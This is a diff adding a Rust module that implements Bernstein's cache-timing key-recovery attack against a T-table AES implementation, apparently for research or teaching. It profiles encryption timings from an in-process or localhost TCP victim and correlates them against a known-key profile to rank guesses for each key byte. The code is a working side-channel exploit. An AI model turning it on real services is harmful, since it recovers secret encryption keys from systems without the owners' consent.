@@ -0,0 +1,215 @@
+//! Bernstein's cache-timing attack on the T-table AES backend.
+//!
+//! The time a T-table encryption takes depends a little on which table entries it reads, and
+//! in round 1 byte j reads entry `p[j] ^ k[j]`. So the average time over plaintexts with
+//! `p[j] = b` is some function f_j(b ^ k[j]) of the machine and implementation alone. The
+//! attacker profiles a copy of the victim under a key it knows (the study profile), profiles
+//! the real victim (the attack profile), and for every guess k correlates the two shifted
+//! against each other: the right guess lines the two copies of f_j up.
+//!
+//! The victim runs on the same host, either in-process (`LocalVictim`) or as a localhost TCP
+//! service (`serve` and `RemoteVictim`) that, like Bernstein's server, reports how many cycles
+//! each encryption took.
+
+use std::io::{self, Read, Write};
+use std::net::{TcpListener, TcpStream, ToSocketAddrs};
+
+use aes::ttable::TTableAES128;
+use aes::State;
+
+use crate::rng::Rng;
+
+/// Something that encrypts chosen plaintexts and says how long each took.
+pub trait TimingOracle {
+    /// Encrypts `plaintext`, returning the ciphertext and the cycles the encryption took.
+    fn encrypt_timed(&mut self, plaintext: &[u8; 16]) -> io::Result<([u8; 16], u64)>;
+}
+
+/// The time stamp counter, or nanoseconds since the first call where there is none.
+pub fn cycles() -> u64 {
+    #[cfg(target_arch = "x86_64")]
+    // SAFETY: every x86-64 CPU has RDTSC and LFENCE; the fences keep the encryption between them
+    unsafe {
+        use std::arch::x86_64::{_mm_lfence, _rdtsc};
+        _mm_lfence();
+        let t = _rdtsc();
+        _mm_lfence();
+        t
+    }
+    #[cfg(not(target_arch = "x86_64"))]
+    {
+        use std::sync::OnceLock;
+        use std::time::Instant;
+        static START: OnceLock<Instant> = OnceLock::new();
+        START.get_or_init(Instant::now).elapsed().as_nanos() as u64
+    }
+}
+
+/// The victim in this process: `TTableAES128` timed with `cycles`.
+pub struct LocalVictim {
+    aes: TTableAES128,
+}
+
+impl LocalVictim {
+    pub fn new(key: [u8; 16]) -> Self {
+        Self { aes: TTableAES128::new(key) }
+    }
+
+    fn encrypt(&self, plaintext: &[u8; 16]) -> ([u8; 16], u64) {
+        let mut state = State::new(*plaintext);
+        let start = cycles();
+        self.aes.cipher(std::hint::black_box(&mut state));
+        let elapsed = cycles().wrapping_sub(start);
+        (*state.as_bytes(), elapsed)
+    }
+}
+
+impl TimingOracle for LocalVictim {
+    fn encrypt_timed(&mut self, plaintext: &[u8; 16]) -> io::Result<([u8; 16], u64)> {
+        Ok(self.encrypt(plaintext))
+    }
+}
+
+/// Serves a `LocalVictim` under `key` to every client of `listener`, one at a time. Each
+/// request is a 16-byte plaintext, each response the ciphertext followed by the cycle count
+/// as 8 little-endian bytes.
+pub fn serve(listener: &TcpListener, key: [u8; 16]) -> io::Result<()> {
+    let victim = LocalVictim::new(key);
+    for stream in listener.incoming() {
+        handle(stream?, &victim)?;
+    }
+    Ok(())
+}
+
+/// Answers requests on one connection until the client closes it.
+pub fn handle(mut stream: TcpStream, victim: &LocalVictim) -> io::Result<()> {
+    stream.set_nodelay(true)?;
+    let mut plaintext = [0u8; 16];
+    loop {
+        match stream.read_exact(&mut plaintext) {
+            Ok(()) => {}
+            Err(err) if err.kind() == io::ErrorKind::UnexpectedEof => return Ok(()),
+            Err(err) => return Err(err),
+        }
+        let (ciphertext, elapsed) = victim.encrypt(&plaintext);
+        let mut response = [0u8; 24];
+        response[..16].copy_from_slice(&ciphertext);
+        response[16..].copy_from_slice(&elapsed.to_le_bytes());
+        stream.write_all(&response)?;
+    }
+}
+
+/// A client of `serve`.
+pub struct RemoteVictim {
+    stream: TcpStream,
+}
+
+impl RemoteVictim {
+    pub fn connect(address: impl ToSocketAddrs) -> io::Result<Self> {
+        let stream = TcpStream::connect(address)?;
+        stream.set_nodelay(true)?;
+        Ok(Self { stream })
+    }
+}
+
+impl TimingOracle for RemoteVictim {
+    fn encrypt_timed(&mut self, plaintext: &[u8; 16]) -> io::Result<([u8; 16], u64)> {
+        self.stream.write_all(plaintext)?;
+        let mut response = [0u8; 24];
+        self.stream.read_exact(&mut response)?;
+        Ok((response[..16].try_into().unwrap(), u64::from_le_bytes(response[16..].try_into().unwrap())))
+    }
+}
+
+/// Timings made before a profile starts, to set the outlier limit.
+pub const WARM_UP: usize = 1000;
+
+/// Average timing per plaintext byte position and value, over random plaintexts.
+pub struct Profile {
+    // sums and counts of the kept timings per position and byte value
+    totals: [[f64; 256]; 16],
+    counts: [[u64; 256]; 16],
+    /// Timings dropped as interrupts or other outliers.
+    pub discarded: usize,
+}
+
+impl Profile {
+    /// Times `samples` random plaintexts from `seed`. Timings over 10 times the warm-up median
+    /// are dropped, as Bernstein did: they are interrupts and scheduling, not cache misses.
+    pub fn collect(oracle: &mut dyn TimingOracle, samples: usize, seed: u64) -> io::Result<Profile> {
+        let mut rng = Rng::new(seed);
+        let mut warm_up = Vec::with_capacity(WARM_UP);
+        for _ in 0..WARM_UP {
+            warm_up.push(oracle.encrypt_timed(&rng.bytes())?.1);
+        }
+        warm_up.sort_unstable();
+        let limit = warm_up[WARM_UP / 2].saturating_mul(10).max(1);
+
+        let mut profile = Profile { totals: [[0.0; 256]; 16], counts: [[0; 256]; 16], discarded: 0 };
+        for _ in 0..samples {
+            let plaintext: [u8; 16] = rng.bytes();
+            let (_, time) = oracle.encrypt_timed(&plaintext)?;
+            if time > limit {
+                profile.discarded += 1;
+                continue;
+            }
+            for (position, &byte) in plaintext.iter().enumerate() {
+                profile.totals[position][byte as usize] += time as f64;
+                profile.counts[position][byte as usize] += 1;
+            }
+        }
+        Ok(profile)
+    }
+
+    /// For each position, the average timing per byte value minus the average over all values.
+    pub fn deviations(&self) -> [[f64; 256]; 16] {
+        std::array::from_fn(|position| {
+            let means: [f64; 256] = std::array::from_fn(|b| {
+                let count = self.counts[position][b];
+                if count == 0 {
+                    0.0
+                } else {
+                    self.totals[position][b] / count as f64
+                }
+            });
+            let overall = means.iter().sum::<f64>() / 256.0;
+            means.map(|mean| mean - overall)
+        })
+    }
+}
+
+/// Key guesses for one byte, best first, with their correlation scores.
+#[derive(Clone, Debug)]
+pub struct Ranking {
+    pub candidates: Vec<(u8, f64)>,
+}
+
+impl Ranking {
+    /// Position of `key_byte` in the ranking, 0 for the best guess.
+    pub fn rank_of(&self, key_byte: u8) -> usize {
+        self.candidates.iter().position(|&(k, _)| k == key_byte).unwrap()
+    }
+}
+
+/// Ranks the guesses for every byte of the attacked key. `study` was profiled under
+/// `known_key` on the same implementation and machine as `attack`.
+pub fn correlate(study: &Profile, known_key: &[u8; 16], attack: &Profile) -> [Ranking; 16] {
+    let (study, attack) = (study.deviations(), attack.deviations());
+    std::array::from_fn(|position| {
+        // study[b] is f(b ^ known key byte), attack[b] is f(b ^ secret key byte)
+        let f_study: [f64; 256] = std::array::from_fn(|x| study[position][x ^ known_key[position] as usize]);
+        let mut candidates: Vec<(u8, f64)> = (0..=255u8)
+            .map(|guess| {
+                let score = (0..256).map(|x| f_study[x] * attack[position][x ^ guess as usize]).sum();
+                (guess, score)
+            })
+            .collect();
+        candidates.sort_by(|a, b| b.1.total_cmp(&a.1));
+        Ranking { candidates }
+    })
+}
+
+/// log2 of the keys left to search if each byte is tried in ranked order up to the right one.
+pub fn remaining_key_bits(rankings: &[Ranking; 16], key: &[u8; 16]) -> f64 {
+    rankings.iter().zip(key).map(|(ranking, &k)| ((ranking.rank_of(k) + 1) as f64).log2()).sum()
+}